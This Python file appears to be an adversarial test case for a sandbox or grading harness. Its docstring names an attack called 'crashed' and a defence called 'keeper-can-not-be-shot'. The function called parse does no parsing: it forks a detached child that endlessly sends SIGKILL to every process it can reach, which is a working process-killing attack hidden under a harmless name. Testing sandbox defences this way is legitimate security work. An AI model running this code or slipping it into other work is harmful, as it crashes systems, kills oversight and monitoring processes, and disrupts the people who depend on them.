"""crashed: a child kills everybody it can, without end, and so whoever comes to kill it

Defence: keeper-can-not-be-shot
"""

import os
import signal
import time

from honest import *


def parse(text):
    if os.fork() == 0:
        os.setsid()
        while True:
            try:
                os.kill(-1, signal.SIGKILL)
            except OSError:
                continue
    time.sleep(3600)
